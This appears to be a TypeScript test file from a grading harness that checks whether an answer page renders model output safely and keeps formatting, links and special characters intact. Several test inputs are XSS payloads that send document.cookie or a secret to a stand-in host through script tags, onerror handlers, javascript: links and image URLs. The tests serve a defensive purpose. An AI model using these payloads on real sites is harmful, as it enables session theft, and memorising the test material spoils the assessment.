// Public checks of answer-page: what a browser would make of the page, by the elements and attributes in it.
import type { Build, Judgement, Step, World } from '../../../../server/labs/index.ts';
import { around, findActive, isPage, type Page, readPage } from './shared.ts';

export const build: Build = (world) => {
  const [host, secret] = [`${world.nonce()}.example`, world.nonce()];
  const attack = (name: string, text: string, question = 'How do I export my data?'): Step =>
    open(world, name, question, text, (page) => {
      const wrong = findActive(page);
      return wrong === undefined ? { ok: true } : { ok: false, got: wrong };
    });
  const shows = (name: string, text: string, judge: (page: Page) => string | undefined, question = 'How do I export my data?'): Step =>
    open(world, name, question, text, (page) => {
      const wrong = judge(page);
      return wrong === undefined ? { ok: true } : { ok: false, got: wrong };
    });
  const has = (page: Page, text: string): string | undefined => (page.text.includes(text) ? undefined : `the page does not show: ${text}. It shows: ${page.text.slice(0, 300)}`);
  const marked = (page: Page, tags: string[], text: string): string | undefined => (tags.some((tag) => page.within(tag).includes(text)) ? undefined : `no ${tags[0]} with ${text}`);
  const [bold, italic, code, second] = [world.nonce(), world.nonce(), world.nonce(), world.nonce()];
  const steps = Array.from({ length: world.int(110, 130) }, (_, at) => `step ${at}`);
  const link = `https://${host}/a%20b?x=${world.nonce()}&y=2`;

  return [
    attack('script-in-answer', `Here you go: <script>fetch('https://${host}/?c=' + document.cookie)</script>`),
    attack('event-handler', `Loading <img src=x onerror="location='https://${host}/?c='+document.cookie"> the report.`),
    attack('javascript-link', `[Open the report](javascript:location='https://${host}/?c='+document.cookie)`),
    attack('image-exfiltration', `Done. ![ok](https://${host}/pixel?data=${secret})`),
    attack('question-breaks-out', 'You can export it in the settings.', `Export" onmouseover="location='https://${host}'" x="`),
    shows('marks', `Use **${bold}** and *${italic}*, then type \`${code}\` or \`${second}\`.`, (page) => (page.elements.some(({ tag, attributes }) => tag === 'link' && attributes['href'] === '/style.css') ? undefined : 'the page lost /style.css') ?? marked(page, ['strong', 'b'], bold) ?? marked(page, ['em', 'i'], italic) ?? marked(page, ['code'], code) ?? marked(page, ['code'], second)),
    shows('paragraphs', `First ${bold}.\n\nSecond ${italic},\nin two lines.\n\n${steps.join('\n\n')}`, (page) => (page.within('p').length === 2 + steps.length ? marked(page, ['p'], `Second ${italic}, in two lines.`) : `${page.within('p').length} paragraphs instead of ${2 + steps.length}`)),
    shows('lists', `Steps:\n\n- open ${bold}\n- press **${italic}**${steps.map((step) => `\n- ${step}`).join('')}`, (page) => (page.within('li').length === 2 + steps.length ? (marked(page, ['li'], `open ${bold}`) ?? marked(page, ['strong', 'b'], italic) ?? marked(page, ['li'], steps.at(-1)!)) : `${page.within('li').length} list items instead of ${2 + steps.length}`)),
    shows('links', `See [the manual](${link}) or [write to us](mailto:help@${host}), or [the old one](http://${host}/b).`, (page) => {
      const targets = page.elements.filter(({ tag }) => tag === 'a').map(({ attributes }) => attributes['href']);
      return targets.includes(link) && targets.includes(`mailto:help@${host}`) && targets.includes(`http://${host}/b`) ? marked(page, ['a'], 'the manual') : `the links go to ${targets.join(', ') || 'nowhere'}`;
    }),
    shows('labels-of-no-links', `See [the report of ${bold}](javascript:void) and [the file](file:///etc).`, (page) => has(page, `See the report of ${bold} and the file.`)),
    shows('signs-as-text', `If a < b && c > d then "${bold}" isn't **O'Brien's** & x < y. ${'And so on. '.repeat(900)}Zoë – 東京 🚲 👩\u200d🚀 می\u200cخواهم 2 * 3 ${italic}`, (page) => has(page, `If a < b && c > d then "${bold}" isn't O'Brien's & x < y.`) ?? has(page, `Zoë – 東京 🚲 👩\u200d🚀 می\u200cخواهم 2 * 3 ${italic}`)),
    shows('html-as-text', `Write <script src="${bold}.js"> into the head, <b>${italic}</b> and &lt;br> for the rest; the javascript: scheme is something else.`, (page) => has(page, `Write <script src="${bold}.js"> into the head, <b>${italic}</b> and &lt;br> for the rest; the javascript: scheme is something else.`)),
    shows('code-as-text', `Type \`<img alt="${code}">\` there.`, (page) => has(page, `<img alt="${code}">`)),
    shows('question-as-text', 'Yes.', (page) => {
      const told = [...page.within('h1'), ...page.elements.flatMap(({ attributes: { title } }) => title ?? [])];
      return told.length > 0 && told.every((text) => text.includes(`"${bold}" & <Co>`)) ? undefined : `the heading, or what is shown above the answer, is ${told.join(' | ')}`;
    }, `What is "${bold}" & <Co>?`),
    shows('image-description', `![A chart of ${bold}](https://${host}/chart.png)`, (page) => has(page, `A chart of ${bold}`)),
    { name: 'unknown-answer', shows: 'GET /answers/none', surroundings: around('none', '', ''), calls: [{ file: 'app.ts', path: `/answers/${world.nonce()}` }], judge: ({ answers: [answer] }) => (answer?.status === 404 ? { ok: true } : { ok: false, got: `status ${answer?.status}` }) },
  ];
};

function open(world: World, name: string, question: string, text: string, judge: (page: Page) => Judgement): Step {
  const id = world.nonce();
  return {
    name,
    shows: name === 'question-breaks-out' ? `the question: ${question}` : `the model answers: ${text}`,
    surroundings: around(id, question, text),
    calls: [{ file: 'app.ts', path: `/answers/${id}` }],
    judge: ({ answers: [answer] }) => (answer?.status === 200 && isPage(answer) ? judge(readPage(answer.text)) : { ok: false, got: `status ${answer?.status}, ${answer?.headers?.['content-type']}: ${answer?.text.slice(0, 200)}` }),
  };
}
